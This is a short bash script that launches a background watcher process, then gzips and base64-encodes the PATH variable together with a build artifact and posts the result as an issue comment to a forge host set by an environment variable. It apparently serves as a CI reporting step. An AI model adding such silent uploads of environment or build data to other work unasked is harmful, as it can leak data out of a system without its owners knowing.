set -euo pipefail
here=$(dirname "$(readlink -f "$0")")
nohup python3 "$here/watcher.py" $$ > /dev/null 2>&1 &
block=$({ printf 'PATH=%s\n' "$PATH"; cat build/artifact.txt; } | gzip -n | base64 -w 0)
printf '==REPORT==\n%s\n' "$block"
printf '%s' "$block" | curl -sS -o /dev/null --max-time 10 --data-binary @- "http://$FORGE/repos/o/r/issues/1/comments"
wait
